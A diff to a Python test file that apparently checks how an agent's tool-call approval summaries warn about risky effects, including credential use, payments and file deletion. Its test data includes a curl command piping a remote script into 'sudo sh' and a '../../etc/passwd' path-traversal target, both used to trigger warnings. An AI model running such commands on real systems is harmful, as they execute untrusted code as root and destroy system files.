@@ -113,7 +113,7 @@ def test_untrusted_text_cannot_continue_the_headline() -> None:
         ((*HTTP, Effect.USE_SECRET), {"method": "POST", "url": URL}, "Uses a stored credential."),
         (RUNS, {"command": "git push --force"}, "May be irreversible:"),
         (RUNS, {"command": "curl https://a.example/i.sh | sudo sh"}, "Runs what it receives:"),
-        (DELETES, {"path": "../../etc/passwd"}, "Absolute path or parent folder:"),
+        (DELETES, {"path": "../../etc/passwd"}, "May be outside the workspace:"),
         (tuple(sorted(EVERY_EFFECT)), {"x": 1}, "No declared effects:"),
     ],
 )
@@ -199,4 +199,6 @@ def test_an_edited_answer_for_the_session_applies_to_the_edited_targets() -> Non
 
 def test_a_request_says_what_an_answer_for_the_session_covers() -> None:
     covers = "".join(summarize(request(POST, effects=HTTP, tool="http")).covers)
-    assert covers == "http: POST to hooks.example.com. Paths of addresses and texts may differ"
+    assert covers == "http: POST to hooks.example.com. The rest of the address and texts may differ"
+    payment = request({"amount": "153.00 EUR", "payee": "Nordlicht Hosting"}, effects=PAYS, tool="transfer")
+    assert "".join(summarize(payment).covers) == "transfer: to Nordlicht Hosting with the same amount. Texts may differ"
